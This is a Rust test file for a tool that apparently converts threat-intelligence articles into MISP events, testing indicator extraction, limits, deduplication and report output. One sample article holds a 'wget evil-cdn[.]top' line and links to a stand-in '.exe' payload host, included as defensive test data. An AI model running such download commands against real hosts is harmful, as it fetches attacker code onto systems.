use std::collections::HashSet;

use proptest::prelude::*;

use super::*;
use crate::article::blocks::{Block, Kind as BlockKind, Run, Style};
use crate::event::samples::{all_judged, article, heading, hex, item, judged, paragraph, table};
use crate::event::{Event, validate};
use crate::indicators::Kind;

const LINK: &str = "https://blog.example.com/posts/loader";

fn content(blocks: &[Block], indicators: &[Indicator], options: &Options) -> Content {
    Content::of(
        LINK,
        &article(blocks.to_vec()),
        indicators,
        options,
        1 << 20,
    )
}

fn of(blocks: &[Block], values: &[(Kind, &str)]) -> Content {
    content(blocks, &all_judged(blocks, values), &Options::default())
}

fn values(content: &Content) -> Vec<&str> {
    let attributes = content.attributes.iter();
    attributes
        .map(|attribute| attribute.value.as_str())
        .collect()
}

/// UUIDs that the report refers to.
fn referenced(markdown: &str) -> Vec<Uuid> {
    ["@[attribute](", "@[object]("]
        .iter()
        .flat_map(|mark| markdown.split(mark).skip(1))
        .map(|rest| rest.split(')').next().unwrap().parse().unwrap())
        .collect()
}

/// Everything that holds of any content.
fn assert_sound(content: &Content) {
    let members = content.objects.iter().flat_map(|object| &object.attributes);
    let attributes = content
        .attributes
        .iter()
        .chain(members.map(|member| &member.attribute));
    let mut known = HashSet::new();
    for attribute in attributes {
        assert_eq!(validate::check(attribute), Ok(()), "{attribute:?}");
        assert!(known.insert(attribute.uuid), "twice {attribute:?}");
        assert!(attribute.comment.chars().count() <= 320, "{attribute:?}");
        assert_eq!(text::storable(&attribute.comment), attribute.comment);
    }
    for object in &content.objects {
        assert!(!object.attributes.is_empty() && known.insert(object.uuid));
    }
    for uuid in referenced(&content.markdown) {
        assert!(known.contains(&uuid), "{uuid} in {}", content.markdown);
    }
    for reference in content.objects.iter().flat_map(|object| &object.references) {
        assert!(
            known.contains(&reference.referenced_uuid) && known.contains(&reference.object_uuid)
        );
    }
    assert_eq!(text::storable(&content.markdown), content.markdown);
}

fn story() -> (Vec<Block>, Vec<Indicator>) {
    let (md5, sha256, lone) = (hex(32, 1), hex(64, 2), hex(64, 3));
    let mut blocks = vec![
        paragraph(
            "The loader calls evil-update[.]top and abuses CVE-2024-12345. See https://vendor.com/note.",
        ),
        heading("Indicators of compromise"),
    ];
    blocks.extend(table(
        0,
        &[
            &["File name", "MD5", "SHA-256", "Download URL"],
            &["load.exe", &md5, &sha256, "hxxp://evil-cdn[.]top/load"],
        ],
    ));
    blocks.push(item("evil-update[.]top (45.9.148[.]7)"));
    blocks.push(item("0x52908400098527886E0F7030069857D2E4169EE7 wallet"));
    blocks.push(Block::plain(
        BlockKind::Code { language: None },
        format!("{lone}\nwget evil-cdn[.]top"),
    ));
    let mut indicators = all_judged(
        &blocks,
        &[
            (Kind::Domain, "evil-update[.]top"),
            (Kind::Domain, "evil-cdn[.]top"),
            (Kind::Vulnerability, "CVE-2024-12345"),
            (Kind::Url, "https://vendor.com/note"),
            (Kind::Filename, "load.exe"),
            (Kind::Md5, &md5),
            (Kind::Sha256, &sha256),
            (Kind::Sha256, &lone),
            (Kind::IpDst, "45.9.148[.]7"),
            (Kind::Eth, "0x52908400098527886E0F7030069857D2E4169EE7"),
        ],
    );
    let url = judged(
        &blocks,
        Kind::Url,
        "hxxp://evil-cdn[.]top/load",
        "http://evil-cdn.top/load",
    );
    indicators.insert(7, url);
    for indicator in &mut indicators {
        match indicator.value.as_str() {
            "CVE-2024-12345" => (indicator.verdict, indicator.to_ids) = (Verdict::Note, false),
            "https://vendor.com/note" => {
                (indicator.verdict, indicator.to_ids) = (Verdict::Reference, false);
            }
            _ => {}
        }
    }
    // The domain of the URL stands by itself in the code only.
    let domain = indicators
        .iter_mut()
        .find(|it| it.value == "evil-cdn.top")
        .unwrap();
    domain.places.remove(0);
    (blocks, indicators)
}

#[test]
fn a_whole_article() {
    let (blocks, indicators) = story();
    let content = content(&blocks, &indicators, &Options::default());
    assert_sound(&content);
    insta::assert_json_snapshot!((&content.attributes, &content.objects));
    insta::assert_snapshot!("a_whole_report", content.markdown);
    assert!(content.notes.is_empty());
}

#[test]
fn the_same_article_gives_the_same_uuids() {
    let (blocks, indicators) = story();
    let one = content(&blocks, &indicators, &Options::default());
    let two = content(&blocks, &indicators, &Options::default());
    assert_eq!(one, two);
    let elsewhere = Content::of(
        "https://b.example/",
        &article(blocks),
        &indicators,
        &Options::default(),
        1 << 20,
    );
    let uuids = |content: &Content| -> HashSet<Uuid> {
        let objects = content.objects.iter().map(|object| object.uuid);
        objects
            .chain(content.attributes.iter().map(|attribute| attribute.uuid))
            .collect()
    };
    assert!(uuids(&one).is_disjoint(&uuids(&elsewhere)));
}

#[test]
fn values_in_objects_do_not_stand_beside_them() {
    let (blocks, indicators) = story();
    let content = content(&blocks, &indicators, &Options::default());
    let loose: HashSet<&str> = values(&content).into_iter().collect();
    for object in &content.objects {
        for member in &object.attributes {
            assert!(
                !loose.contains(member.attribute.value.as_str()),
                "{member:?}"
            );
        }
    }
    let sources: Vec<Uuid> = content
        .objects
        .iter()
        .flat_map(|object| &object.references)
        .map(|reference| reference.referenced_uuid)
        .collect();
    let url = content
        .attributes
        .iter()
        .find(|it| it.kind == "url")
        .unwrap();
    assert_eq!(sources, [url.uuid]);
}

#[test]
fn options_switch_references_off() {
    let (blocks, indicators) = story();
    let options = Options {
        references: false,
        report_references: false,
        ..Options::default()
    };
    let content = content(&blocks, &indicators, &options);
    assert!(
        content
            .attributes
            .iter()
            .all(|attribute| attribute.kind != "link")
    );
    assert!(!content.markdown.contains("@["));
    assert!(content.markdown.contains("evil-update[.]top"));
}

#[test]
fn the_limit_cuts_what_matters_least() {
    let blocks: Vec<Block> = (0..10).map(|n| item(&format!("host{n}.top"))).collect();
    let hosts: Vec<String> = (0..10).map(|n| format!("host{n}.top")).collect();
    let pairs: Vec<(Kind, &str)> = hosts
        .iter()
        .map(|host| (Kind::Domain, host.as_str()))
        .collect();
    let mut indicators = all_judged(&blocks, &pairs);
    for indicator in indicators.iter_mut().step_by(2) {
        (indicator.verdict, indicator.to_ids) = (Verdict::Note, false);
    }
    let options = Options {
        limit: 7,
        ..Options::default()
    };
    let content = content(&blocks, &indicators, &options);
    assert_sound(&content);
    let note = "3 of 10 values left out, over the limit of 7 (indicators.limit): 0 for detection, 3 for context, 0 references";
    assert_eq!(
        values(&content),
        [
            "host0.top",
            "host1.top",
            "host2.top",
            "host3.top",
            "host5.top",
            "host7.top",
            "host9.top",
            note
        ]
    );
    assert_eq!(content.notes, [note]);
    assert!(
        content.markdown.trim_end().ends_with(&format!("*{note}.*")),
        "{}",
        content.markdown
    );
    assert!(content.markdown.contains("host4.top") && !content.markdown.contains("host1.top"));
}

#[test]
fn objects_are_cut_whole() {
    let (md5, sha1) = (hex(32, 1), hex(40, 2));
    let blocks = [
        item("host1.top"),
        item(&format!("{md5} {sha1}")),
        item("host2.top"),
    ];
    let pairs = [
        (Kind::Domain, "host1.top"),
        (Kind::Md5, md5.as_str()),
        (Kind::Sha1, &sha1),
        (Kind::Domain, "host2.top"),
    ];
    let indicators = all_judged(&blocks, &pairs);
    for (limit, objects, loose) in [(4, 1, 2), (3, 1, 1), (2, 0, 1), (1, 0, 1), (0, 0, 0)] {
        let options = Options {
            limit,
            ..Options::default()
        };
        let content = content(&blocks, &indicators, &options);
        assert_sound(&content);
        let hosts = content
            .attributes
            .iter()
            .filter(|it| it.kind == "domain")
            .count();
        assert_eq!((content.objects.len(), hosts), (objects, loose), "{limit}");
        assert_eq!(content.notes.is_empty(), limit == 4);
    }
}

#[test]
fn what_misp_would_refuse_is_left_out_and_said() {
    let blocks = [paragraph("See GOOD.top and bad_ and @[tag](tlp:red).")];
    let mut indicators = all_judged(
        &blocks,
        &[(Kind::Domain, "GOOD.top"), (Kind::Domain, "bad_")],
    );
    indicators.push(judged(
        &blocks,
        Kind::Md5,
        "@[tag](tlp:red)",
        "@[tag](tlp:red)",
    ));
    let content = content(&blocks, &indicators, &Options::default());
    assert_sound(&content);
    assert_eq!(values(&content), ["good.top"]);
    assert_eq!(
        content.notes,
        [
            "2 values that MISP would not keep left out: domain `bad_` (it has not the form of its type), md5 \
          `@[tag](tlp:red)` (it has not the form of its type)"
        ]
    );
    assert!(
        content
            .markdown
            .contains("*2 values of a form that MISP would not keep left out.*")
    );
    assert!(!content.markdown.contains("@[tag]"), "{}", content.markdown);
}

#[test]
fn two_spellings_are_one_attribute() {
    let blocks = [paragraph("EVIL.top and evil.top")];
    let mut indicators = vec![
        judged(&blocks, Kind::Domain, "EVIL.top", "EVIL.top"),
        judged(&blocks, Kind::Domain, "evil.top", "evil.top"),
    ];
    indicators[0].to_ids = false;
    let content = content(&blocks, &indicators, &Options::default());
    assert_eq!(values(&content), ["evil.top"]);
    assert!(content.attributes[0].to_ids);
    assert_eq!(referenced(&content.markdown).len(), 2);
}

#[test]
fn of_equal_values_the_stronger_speaks() {
    let blocks = [
        paragraph("Seen at http://evil.top:80/ and on @evilbot."),
        heading("Indicators"),
        item("http://evil.top/"),
        item("Telegram: evilbot"),
    ];
    let mut indicators = vec![
        judged(
            &blocks[..1],
            Kind::Url,
            "http://evil.top:80/",
            "http://evil.top:80/",
        ),
        judged(&blocks[..1], Kind::Telegram, "@evilbot", "@evilbot"),
        judged(&blocks, Kind::Url, "http://evil.top/", "http://evil.top/"),
        judged(&blocks, Kind::Telegram, "Telegram: evilbot", "evilbot"),
    ];
    for indicator in indicators.iter_mut().take(2) {
        (indicator.verdict, indicator.to_ids) = (Verdict::Note, false);
        indicator.reason = "in passing".into();
    }
    let options = Options {
        limit: 2,
        ..Options::default()
    };
    let content = content(&blocks, &indicators, &options);
    assert_sound(&content);
    assert_eq!(values(&content), ["http://evil.top/"]);
    assert!(content.notes.is_empty(), "{:?}", content.notes);
    let member = &content.objects[0].attributes[0].attribute;
    for attribute in [&content.attributes[0], member] {
        assert!(
            attribute.to_ids && attribute.comment.contains("listed"),
            "{attribute:?}"
        );
    }
    assert_eq!(
        (content.objects.len(), referenced(&content.markdown).len()),
        (1, 4)
    );
}

#[test]
fn a_rule_that_is_too_long_is_named() {
    for kind in [Kind::Yara, Kind::Snort, Kind::Suricata, Kind::Sigma] {
        let rule = judged(&[], kind, "", &format!("rule {}", "a".repeat(65_536)));
        let content = content(&[paragraph("x")], &[rule], &Options::default());
        assert!(content.attributes.is_empty());
        let note = content.notes.concat();
        let named = format!("{kind} `rule aaa");
        assert!(
            note.contains(&named) && note.contains("longer than 65,535"),
            "{note}"
        );
    }
}

#[test]
fn no_link_leads_to_a_host_for_detection() {
    let mut block = paragraph("evil.top, ");
    let link = |text: &str, target: &str| Run {
        text: text.into(),
        style: Style::default(),
        link: Some(target.into()),
    };
    block.cells[0].runs.extend([
        link("get ", "http://cdn.evil.top/p.exe"),
        link("it", "http://cdn.evil.top/p.exe"),
        link("or not", "https://vendor.com/note"),
    ]);
    let blocks = [block];
    let indicators = all_judged(&blocks, &[(Kind::Domain, "evil.top")]);
    for report_references in [true, false] {
        let options = Options {
            report_references,
            ..Options::default()
        };
        let report = content(&blocks, &indicators, &options).markdown;
        let rest = "get it (`http://cdn.evil.top/p.exe`)[or not](https://vendor.com/note)\n";
        assert!(report.ends_with(rest), "{report}");
    }
}

#[test]
fn a_cut_report_keeps_its_references_whole_and_says_what_is_missing() {
    let blocks: Vec<Block> = (0..400)
        .map(|n| item(&format!("c2-{n}.top is the server")))
        .collect();
    let hosts: Vec<String> = (0..400).map(|n| format!("c2-{n}.top")).collect();
    let pairs: Vec<(Kind, &str)> = hosts
        .iter()
        .map(|host| (Kind::Domain, host.as_str()))
        .collect();
    let indicators = all_judged(&blocks, &pairs);
    let options = Options {
        limit: 300,
        ..Options::default()
    };
    let content = Content::of(LINK, &article(blocks), &indicators, &options, 4_000);
    assert_sound(&content);
    assert!(content.markdown.len() <= 4_000);
    assert!(content.markdown.contains("indicators.limit"));
    let settings = crate::config::EventSettings {
        max_report: "4000".parse().unwrap(),
        ..crate::config::EventSettings::default()
    };
    let job = crate::event::build::tests::job();
    let event: Event = crate::event::build(&settings, &job, None, Some(content), &[]);
    assert!(event.reports[0].content.contains("indicators.limit"));
}

#[test]
fn the_blog_itself_is_linked_once() {
    let blocks = [paragraph(&format!("First seen at {LINK}."))];
    let mut indicators = all_judged(&blocks, &[(Kind::Url, LINK)]);
    (indicators[0].verdict, indicators[0].to_ids) = (Verdict::Reference, false);
    let content = content(&blocks, &indicators, &Options::default());
    let event = crate::event::build(
        &crate::config::EventSettings::default(),
        &crate::event::build::tests::job(),
        None,
        Some(content),
        &[],
    );
    let links = event.attributes.iter().filter(|it| it.value == LINK);
    assert_eq!(
        links.map(|it| it.comment.as_str()).collect::<Vec<_>>(),
        ["Blog URL"]
    );
}

/// Words and values, in runs of any look, with every value marked.
fn marked_block() -> impl Strategy<Value = (Block, Vec<(std::ops::Range<usize>, usize)>)> {
    let part = prop_oneof![
        2 => r"[a-z \[\]()*_`!@|~<>&#.1-]{0,6}".prop_map(|text| (text, None)),
        2 => (0..20_usize).prop_map(|n| (format!("c2-{n}.top"), Some(n))),
        1 => Just(("\n".to_owned(), None)),
    ];
    let run = (part, 0_u8..8, prop::option::weighted(0.3, 0_u8..2));
    prop::collection::vec(run, 1..8).prop_map(|parts| {
        let mut block = paragraph("");
        let (mut at, mut marks) = (0, Vec::new());
        let mut runs = Vec::new();
        for ((text, value), look, link) in parts {
            if let Some(value) = value {
                marks.push((at..at + text.len(), value));
            }
            at += text.len();
            if !text.is_empty() {
                runs.push(Run {
                    text,
                    style: Style {
                        code: look == 1,
                        strong: look & 2 != 0,
                        em: look & 4 != 0,
                    },
                    link: link.map(|n| format!("https://x.example/{n}").into()),
                });
            }
        }
        block.cells[0].runs = runs;
        (block, marks)
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn any_article_makes_a_sound_event(
        blocks in prop::collection::vec(marked_block(), 1..6),
        limit in 0..30_usize,
        max in 600..4_000_usize,
    ) {
        let mut indicators: Vec<Indicator> = (0..20)
            .map(|n| {
                let mut indicator = judged(&[], Kind::Domain, "", &format!("c2-{n}.top"));
                indicator.verdict = [Verdict::Detect, Verdict::Note, Verdict::Reference][n % 3];
                indicator.to_ids = indicator.verdict == Verdict::Detect;
                indicator
            })
            .collect();
        for (number, (_, marks)) in blocks.iter().enumerate() {
            for (span, value) in marks {
                indicators[*value].places.push(crate::indicators::judge::Place {
                    block: number,
                    span: span.clone(),
                    defanged: false,
                    origin: if span.start % 5 == 0 { Origin::Link } else { Origin::Text },
                });
            }
        }
        indicators.retain(|indicator| !indicator.places.is_empty());
        let blocks: Vec<Block> = blocks.into_iter().map(|(block, _)| block).collect();
        let options = Options { limit, ..Options::default() };
        let content = Content::of(LINK, &article(blocks), &indicators, &options, max);
        assert_sound(&content);
    }
}

#[test]
fn nothing_found_is_a_report_alone() {
    let blocks = [paragraph("Nothing here.")];
    let content = of(&blocks, &[]);
    assert_eq!(content, Content::from("Nothing here.\n"));
}
